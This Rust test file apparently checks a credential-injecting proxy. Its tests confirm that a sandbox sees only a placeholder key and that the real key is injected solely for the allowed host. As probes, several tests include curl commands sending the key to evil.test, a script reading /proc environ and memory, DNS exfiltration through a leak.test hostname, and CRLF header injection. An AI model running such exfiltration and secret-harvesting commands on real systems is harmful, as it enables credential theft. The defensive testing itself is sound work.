//! Keys: the real key goes only to its own host, in its own place; the sandbox has a placeholder.

use interceptor_tests::client::fetch::{Answer, Plan};
use interceptor_tests::{Lab, Outcome};
use serde_json::{Value, json};

const HOST: &str = "api.example.test";
const OTHER: &str = "other.example.test";
const PROTOCOLS: [&str; 2] = ["http/1.1", "h2"];

fn policy(lab: &Lab) -> Value {
    let mut policy = lab.governed(HOST, json!([{ "methods": [], "paths": ["/"] }]));
    policy["network"]["allow"] = json!([HOST, OTHER]);
    policy
}

/// Only the sandbox knows the placeholder, so a shell script sends the plan's requests with curl.
fn curl(lab: &Lab, policy: &Value, arguments: &str) -> Outcome {
    let script =
        format!("curl -sS -w '\\n%{{http_code}} %header{{x-interceptor-decision}}\\n' {arguments}");
    lab.sandbox(policy).at_origin(HOST).at_origin(OTHER).shell(&script)
}

#[test]
fn the_sandbox_holds_a_placeholder_of_its_own() {
    Lab::test(|lab| {
        let first = lab.sandbox(&policy(lab)).shell("echo $LAB_API_KEY");
        let second = lab.sandbox(&policy(lab)).shell("echo $LAB_API_KEY");
        assert!(first.out().contains("proxy-managed"), "{}", first.out());
        assert_ne!(first.out(), second.out(), "c12: a placeholder is drawn for each sandbox");
    });
}

#[test]
fn the_real_key_is_nowhere_in_the_sandbox() {
    Lab::test(|lab| {
        // The key may come from a file, the environment, or the policy, which the sandbox cannot
        // see.
        for key in
            [json!({ "file": lab.key_file() }), json!({ "env": "REAL_KEY" }), json!(lab.key())]
        {
            let mut policy = policy(lab);
            policy["credentials_v2"]["lab"]["key"] = key;
            let script = "env; cat /proc/*/environ /proc/*/cmdline 2>/dev/null; cat \
                          /proc/1/environ /proc/1/mem 2>&1 | head -c 1000; ls -la /proc/1/root \
                          /proc/1/fd 2>&1; mount; cat /etc/resolv.conf; true";
            let outcome = lab.sandbox(&policy).env("REAL_KEY", lab.key()).shell(script);
            // The canary oracle reads this output and the wrapper's sweep.
            assert!(outcome.success().out().contains("LAB_API_KEY="));
        }
    });
}

#[test]
fn a_key_file_is_not_readable_from_inside() {
    Lab::test(|lab| {
        let file = lab.key_file();
        // The policy may contain a key too, so the lab writes it like a key file.
        let policy_like = lab.secret_file("policy.json", lab.key());
        let script =
            format!("id -u; cat {} 2>&1; cat {} 2>&1; true", file.display(), policy_like.display());
        let outcome = lab.sandbox(&policy(lab)).shell(&script);
        assert_eq!(
            outcome.success().out().matches("Permission denied").count(),
            2,
            "{}",
            outcome.out()
        );
        assert_ne!(outcome.out().lines().next(), Some("0"), "the command runs unprivileged");
    });
}

#[test]
fn c7_c9_whatever_authentication_the_client_sends_the_origin_gets_the_real_one_alone() {
    let own = [
        vec![("authorization", "Bearer sk-attacker")],
        vec![("authorization", "Bearer sk-attacker"), ("authorization", "Bearer sk-second")],
        vec![("Authorization", "Basic YTpi")],
        vec![
            ("x-api-key", "sk-attacker"),
            ("api-key", "sk-attacker"),
            ("x-goog-api-key", "sk-attacker"),
        ],
        vec![("proxy-authorization", "Basic YTpi")],
        vec![],
    ];
    for protocol in PROTOCOLS {
        Lab::test(|lab| {
            if protocol == "h2" {
                lab.unordered();
            }
            let plan = own.iter().fold(Plan::https(HOST, protocol), |plan, headers| {
                plan.ask_with("GET", "/v1/x", headers, "")
            });
            let reports = lab.sandbox(&policy(lab)).at_origin(HOST).fetch(&plan);
            assert!(reports[0].answers.iter().all(|answer| answer.status == 200), "{reports:?}");
            for seen in lab.seen() {
                assert_eq!(seen.values("authorization"), [format!("Bearer {}", lab.key())]);
                for name in ["x-api-key", "api-key", "x-goog-api-key", "proxy-authorization"] {
                    assert_eq!(seen.values(name), Vec::<&str>::new(), "{name}");
                }
                assert!(!format!("{seen:?}").contains("attacker"), "{seen:?}");
            }
        });
    }
}

#[test]
fn h9_a_connection_header_cannot_strip_the_key() {
    Lab::test(|lab| {
        let plan = Plan::https(HOST, "http/1.1").ask_with(
            "GET",
            "/v1/x",
            &[
                ("connection", "authorization, host, x-hop"),
                ("x-hop", "1"),
                ("authorization", "Bearer own"),
            ],
            "",
        );
        let reports = lab.sandbox(&policy(lab)).at_origin(HOST).fetch(&plan);
        let answer = &reports[0].answers[0];
        match answer.status {
            200 => {
                let seen = &lab.seen()[0];
                assert_eq!(seen.values("authorization"), [format!("Bearer {}", lab.key())]);
                assert_eq!(seen.values("x-hop"), Vec::<&str>::new());
            }
            status => assert_eq!((status, lab.seen().len()), (400, 0), "{answer:?}"),
        }
    });
}

#[test]
fn other_places_for_the_key() {
    Lab::test(|lab| {
        let shapes = [
            (json!({ "header": "x-billing-key", "format": "{key}" }), "x-billing-key", "{key}"),
            (
                json!({ "header": "authorization", "format": "token {key}" }),
                "authorization",
                "token {key}",
            ),
        ];
        for (index, (inject, header, value)) in shapes.into_iter().enumerate() {
            let mut policy = policy(lab);
            policy["credentials_v2"]["lab"]["inject"] = inject;
            let reports = lab
                .sandbox(&policy)
                .at_origin(HOST)
                .fetch(&Plan::https(HOST, "h2").ask("GET", "/v1/x"));
            assert_eq!(reports[0].answers[0].status, 200, "{reports:?}");
            assert_eq!(lab.seen()[index].values(header), [value.replace("{key}", lab.key())]);
        }
        let mut policy = policy(lab);
        policy["credentials_v2"]["lab"]["inject"] = json!({ "query": "key" });
        let plan = Plan::https(HOST, "h2").ask("GET", "/v1/x?a=1&key=own&b=2");
        let reports = lab.sandbox(&policy).at_origin(HOST).fetch(&plan);
        assert_eq!(reports[0].answers[0].status, 200, "{reports:?}");
        let query = lab.seen()[2].query.clone().unwrap();
        assert!(query.contains(&format!("key={}", lab.key())) && !query.contains("own"), "{query}");
        assert!(query.contains("a=1") && query.contains("b=2"), "{query}");
    });
}

#[test]
fn c3_what_the_origin_echoes_holds_the_placeholder_instead() {
    let queries = [
        "",
        "?in=header",
        "?in=location",
        "?in=trailer",
        "?in=bytes",
        "?encoding=gzip",
        "?encoding=br",
        "?encoding=deflate",
        "?encoding=zstd",
        "?encoding=gzip&in=bytes",
        "?encoding=br&in=bytes",
    ];
    for protocol in ["--http1.1", "--http2"] {
        Lab::test(|lab| {
            let mut script = String::from("echo \"placeholder $LAB_API_KEY\"\n");
            for query in queries {
                script.push_str(&format!(
                    "echo '== {query}'; curl -sSi {protocol} --compressed -H 'accept-encoding: gzip, br, deflate, zstd' \
                     -d 'a body' 'https://{HOST}/echo{query}' || exit\n"
                ));
            }
            let outcome = lab.sandbox(&policy(lab)).at_origin(HOST).shell(&script);
            let text = outcome.success().out();
            let placeholder = text.lines().next().unwrap().strip_prefix("placeholder ").unwrap();
            for part in text.split("== ").skip(1) {
                let (query, answer) = part.split_once('\n').unwrap();
                // curl 7.88 shows no trailers over HTTP/2; the canary oracle judges those.
                if query != "?in=trailer" {
                    assert!(answer.contains(placeholder), "{query}: {answer}");
                }
                assert!(!answer.contains("CANARY"), "{query}: {answer}");
            }
            assert_eq!(lab.seen().len(), queries.len());
        });
    }
}

#[test]
fn c3_a_websocket_echo_of_the_handshake_does_not_show_the_key() {
    Lab::test(|lab| {
        let outcome = lab.sandbox(&policy(lab)).at_origin(HOST).python(&websocket("head"));
        assert!(outcome.success().out().contains("101"), "{}", outcome.out());
    });
}

#[test]
fn c3_a_reason_phrase_does_not_carry_the_key() {
    for status in [101, 200] {
        Lab::test(|lab| {
            let head = "content-length: 0\r\nupgrade: websocket\r\nconnection: upgrade\r\n\r\n";
            let answer = format!("HTTP/1.1 {status} {}\r\n{head}", lab.key());
            let origin = lab.scripted(Box::leak(answer.into_bytes().into_boxed_slice()));
            let program = "import socket, ssl\ns = \
                           ssl.create_default_context().wrap_socket(socket.create_connection(('\
                           HOST', 443)), \
                           server_hostname='HOST')\ns.settimeout(10)\ns.sendall(b'GET /ws \
                           HTTP/1.1\\r\\nhost: HOST\\r\\nconnection: Upgrade\\r\\nupgrade: \
                           websocket\\r\\n\\r\\n')\nprint(s.recv(4096).decode())\n";
            let outcome = lab
                .sandbox(&policy(lab))
                .resolve(HOST, origin.address())
                .python(&program.replace("HOST", HOST));
            assert!(
                outcome.success().out().starts_with(&format!("HTTP/1.1 {status} ")),
                "{}",
                outcome.out()
            );
        });
    }
}

#[test]
fn h10_a_request_for_an_upgrade_has_no_body() {
    Lab::test(|lab| {
        let bytes = format!(
            "GET /ws HTTP/1.1\r\nhost: {HOST}\r\nconnection: Upgrade\r\nupgrade: \
             websocket\r\ncontent-length: 5\r\n\r\nhello"
        );
        let outcome = lab.sandbox(&policy(lab)).at_origin(HOST).send(
            &format!("{HOST}:443"),
            Some(HOST),
            bytes.as_bytes(),
        );
        assert!(outcome.out().starts_with("HTTP/1.1 400 "), "{}", outcome.out());
        assert_eq!(lab.seen().len(), 0);
    });
}

#[test]
fn h10_a_websocket_is_forwarded_where_a_rule_allows_its_handshake() {
    Lab::test(|lab| {
        let outcome = lab.sandbox(&policy(lab)).at_origin(HOST).python(&websocket("over and out"));
        assert!(outcome.success().out().contains("over and out"), "{}", outcome.out());
        assert_eq!(lab.seen()[0].values("authorization"), [format!("Bearer {}", lab.key())]);
        let record = outcome.requests("allow")[0];
        assert_eq!(
            (record.protocol.as_deref(), record.status),
            (Some("ws"), Some(101)),
            "{record:?}"
        );
    });
    Lab::test(|lab| {
        let mut policy = policy(lab);
        policy["credentials_v2"]["lab"]["endpoints"] =
            json!([{ "methods": [], "paths": ["/v1/"] }]);
        let outcome = lab.sandbox(&policy).at_origin(HOST).python(&websocket("x"));
        assert!(outcome.out().contains("403"), "{}\n{}", outcome.out(), outcome.tail());
        assert_eq!(lab.seen().len(), 0);
    });
}

/// A WebSocket client of thirty lines: sends one text message and prints what comes back.
fn websocket(message: &str) -> String {
    format!(
        r#"
import base64, os, socket, ssl, struct
s = ssl.create_default_context().wrap_socket(socket.create_connection(('{HOST}', 443)), server_hostname='{HOST}')
s.settimeout(10)
key = base64.b64encode(os.urandom(16)).decode()
s.sendall(f'GET /ws HTTP/1.1\r\nhost: {HOST}\r\nconnection: Upgrade\r\nupgrade: websocket\r\n'
          f'sec-websocket-version: 13\r\nsec-websocket-key: {{key}}\r\n\r\n'.encode())
head = b''
while b'\r\n\r\n' not in head:
    part = s.recv(4096)
    if not part: break
    head += part
print(head.decode())
if b' 101 ' in head.split(b'\r\n')[0]:
    payload, mask = b'{message}', os.urandom(4)
    s.sendall(bytes([0x81, 0x80 | len(payload)]) + mask + bytes(b ^ mask[i % 4] for i, b in enumerate(payload)))
    print(s.recv(65536))
    s.sendall(bytes([0x88, 0x80]) + mask)
    print(s.recv(65536))
"#
    )
}

#[test]
fn c1_a_placeholder_sent_to_another_host_is_refused_and_recorded() {
    let places = [
        "-H \"authorization: Bearer $LAB_API_KEY\" https://OTHER/x",
        "-H \"x-anything: $LAB_API_KEY\" https://OTHER/x",
        "-H \"cookie: a=b; session=$LAB_API_KEY\" https://OTHER/x",
        "-u \"user:$LAB_API_KEY\" https://OTHER/x",
        "\"https://OTHER/x?key=$LAB_API_KEY\"",
        "-H \"authorization: Bearer $LAB_API_KEY\" http://OTHER/x",
    ];
    for option in ["--http1.1", "--http2"] {
        for place in places {
            Lab::test(|lab| {
                let outcome =
                    curl(lab, &policy(lab), &format!("{option} {}", place.replace("OTHER", OTHER)));
                assert!(
                    outcome.success().out().contains("403 deny; reason=credential_misuse"),
                    "{place}: {}",
                    outcome.out()
                );
                let record = outcome.one_denied("credential_misuse");
                assert_eq!(record.credential.as_deref(), Some("lab"));
                assert_eq!(lab.seen().len(), 0);
            });
        }
    }
}

#[test]
fn c1_a_placeholder_sent_to_a_denied_host_is_recorded_as_the_leak_that_it_is() {
    let places = [
        "-H \"authorization: Bearer $LAB_API_KEY\" https://evil.test/x",
        "-H \"authorization: Bearer $LAB_API_KEY\" http://evil.test/x",
        "\"https://evil.test/x?key=$LAB_API_KEY\"",
        "\"http://evil.test/x?key=$LAB_API_KEY\"",
    ];
    for place in
        ["--http1.1", "--http2"].into_iter().flat_map(|option| places.map(|place| (option, place)))
    {
        Lab::test(|lab| {
            let outcome = curl(lab, &policy(lab), &format!("{} {}", place.0, place.1));
            let out = outcome.success().out();
            assert!(out.contains("403 deny; reason=credential_misuse"), "{place:?}: {out}");
            let record = outcome.one_denied("credential_misuse");
            assert_eq!(record.credential.as_deref(), Some("lab"));
        });
    }
    Lab::test(|lab| {
        let outcome = curl(lab, &policy(lab), "https://evil.test/x");
        assert!(outcome.out().contains("403 deny; reason=host_denied"), "{}", outcome.out());
        outcome.one_denied("host_denied");
    });
}

#[test]
fn with_two_credentials_for_a_host_the_placeholder_selects() {
    Lab::test(|lab| {
        let second = lab.another_key();
        let mut policy = policy(lab);
        policy["credentials_v2"]["second"] = json!({
            "key": { "file": lab.secret_file("second", &second) }, "hosts": [HOST], "env": "SECOND_KEY",
            "endpoints": [{ "methods": ["GET"], "paths": ["/second"] }],
        });
        let first = curl(
            lab,
            &policy,
            &format!("-H \"authorization: Bearer $LAB_API_KEY\" https://{HOST}/first"),
        );
        assert!(first.success().out().contains("\n200 "), "{}", first.out());
        let other = curl(
            lab,
            &policy,
            &format!("-H \"authorization: Bearer $SECOND_KEY\" https://{HOST}/second"),
        );
        assert!(other.success().out().contains("\n200 "), "{}", other.out());
        let outside = curl(
            lab,
            &policy,
            &format!("-H \"authorization: Bearer $SECOND_KEY\" https://{HOST}/first"),
        );
        assert!(outside.out().contains("403 deny; reason=endpoint_denied"), "{}", outside.out());
        let none = curl(lab, &policy, &format!("https://{HOST}/second"));
        assert!(none.out().contains("403 deny; reason=credential_ambiguous"), "{}", none.out());
        let keys: Vec<_> =
            lab.seen().iter().map(|seen| seen.values("authorization").join(",")).collect();
        assert_eq!(keys, [format!("Bearer {}", lab.key()), format!("Bearer {second}")]);
    });
}

#[test]
fn c10_a_key_that_cannot_be_used_stops_the_start_and_is_not_printed() {
    Lab::test(|lab| {
        let bad = [
            format!("{}\r\nx-evil: 1", lab.key()),
            format!("{}\u{e9}", lab.key()),
            String::new(),
            "\n".into(),
        ];
        for (index, key) in bad.iter().enumerate() {
            let mut policy = policy(lab);
            policy["credentials_v2"]["lab"]["key"] =
                json!({ "file": lab.secret_file(&format!("bad-{index}"), key) });
            let outcome = lab.sandbox(&policy).bare().run(&["true"]);
            assert_eq!(outcome.code(), Some(125), "{}", outcome.tail());
            assert!(outcome.err().contains("lab"), "{}", outcome.tail());
        }
        let mut policy = policy(lab);
        for source in [json!({ "env": "NOT_SET_ANYWHERE" }), json!({ "file": "/nonexistent/key" })]
        {
            policy["credentials_v2"]["lab"]["key"] = source;
            let outcome = lab.sandbox(&policy).bare().run(&["true"]);
            assert_eq!(outcome.code(), Some(125), "{}", outcome.tail());
        }
    });
}

#[test]
fn c5_a_redirect_to_another_host_is_a_new_request() {
    Lab::test(|lab| {
        let location = format!("https%3A%2F%2F{OTHER}%2Fnext");
        let arguments = format!(
            "-L --location-trusted -H \"authorization: Bearer $LAB_API_KEY\" 'https://{HOST}/set?location={location}'"
        );
        // curl sees the origin's 302 only if the proxy does not follow it.
        let outcome = curl(lab, &policy(lab), &arguments);
        outcome.success();
        assert_eq!(lab.seen().len(), 1, "the proxy follows nothing: {:#?}", lab.seen());
    });
}

#[test]
fn h16_alt_svc_is_dropped() {
    for protocol in PROTOCOLS {
        Lab::test(|lab| {
            let plan = Plan::https(HOST, protocol)
                .ask("GET", "/set?alt-svc=h3%3D%22%3A443%22&x-kept=1&set-cookie=a%3Db");
            let reports = lab.sandbox(&policy(lab)).at_origin(HOST).fetch(&plan);
            let answer: &Answer = &reports[0].answers[0];
            assert_eq!(
                (answer.status, answer.header("alt-svc"), answer.header("x-kept")),
                (200, None, Some("1"))
            );
            assert_eq!(answer.header("set-cookie"), None);
        });
    }
}

#[test]
fn c1_a_placeholder_in_a_host_name_is_refused_and_nobody_is_asked_for_it() {
    // In a lookup, in the ClientHello alone, in `:authority` or `Host` alone, and with passthrough.
    let program = "import os, socket, ssl\nname = os.environ['LAB_API_KEY'].lower() + \
                   '.leak.test'\ntry: print('looked up', socket.getaddrinfo(name, 443))\nexcept \
                   OSError as error: print('refused')\ncontext = ssl.create_default_context(); \
                   context.check_hostname = False; context.verify_mode = ssl.CERT_NONE\ndef \
                   ask(stream, host):\n\x20   stream.settimeout(20)\n\x20   stream.sendall(f'GET \
                   /x HTTP/1.1\\r\\nhost: {host}\\r\\nconnection: \
                   close\\r\\n\\r\\n'.encode())\n\x20   \
                   print(stream.recv(65536).split(b'\\r\\n')[0].decode())\ndef tls(): return \
                   context.wrap_socket(socket.create_connection(('192.0.2.1', 443)), \
                   server_hostname=name)\nfor make in (lambda: ask(tls(), name), lambda: \
                   ask(socket.create_connection(('192.0.2.1', 80)), name)):\n\x20   try: \
                   make()\n\x20   except OSError as error: print('reset')\n";
    for passthrough in [false, true] {
        Lab::test(|lab| {
            let mut policy = policy(lab);
            policy["network"]["allow"] = json!([HOST, "*.leak.test"]);
            if passthrough {
                policy["network"]["passthrough"] = json!(["*.leak.test"]);
            }
            let names = lab.names(&[("leak.test", &[&["127.0.0.1".parse().unwrap()]])]);
            let outcome = lab.sandbox(&policy).resolver(names.address()).python(program);
            let tls = if passthrough { "reset" } else { "HTTP/1.1 403 Refused:" };
            let expected = ["refused", tls, "HTTP/1.1 403 Refused:"];
            let out = outcome.success().out();
            let said: Vec<&str> = out.lines().collect();
            assert!(
                said.len() == 3
                    && said.iter().zip(expected).all(|(line, start)| line.starts_with(start)),
                "{}",
                outcome.tail()
            );
            let misuse = outcome
                .audit
                .iter()
                .filter(|record| record.reason.as_deref() == Some("credential_misuse"));
            let kinds: Vec<_> =
                misuse.map(|record| record.kind.as_str()).filter(|kind| *kind != "dns").collect();
            assert_eq!(
                kinds,
                [if passthrough { "connection" } else { "request" }, "request"],
                "{:#?}",
                outcome.audit
            );
            assert!(outcome.audit.iter().any(|record| record.kind == "dns"
                && record.reason.as_deref() == Some("credential_misuse")));
            let asked = names.asked();
            assert!(!asked.iter().any(|name| name.contains("leak")), "{asked:?}");
        });
    }
}

#[test]
fn c12_a_placeholder_of_one_sandbox_is_nothing_in_another() {
    Lab::test(|lab| {
        let first = lab.sandbox(&policy(lab)).shell("echo $LAB_API_KEY");
        let foreign = first.success().out().trim().to_owned();
        let key = lab.another_key();
        let mut policy = policy(lab);
        policy["credentials_v2"]["lab"]["key"] = json!({ "file": lab.secret_file("second", &key) });
        let arguments = format!(
            "-H 'authorization: Bearer {foreign}' https://{HOST}/v1/x && curl -sS -H 'x-a: {foreign}' https://{OTHER}/x"
        );
        curl(lab, &policy, &arguments).success();
        let seen = lab.seen();
        assert_eq!(seen[0].values("authorization"), [format!("Bearer {key}")]);
        assert_eq!(seen[1].values("x-a"), [foreign]);
    });
}
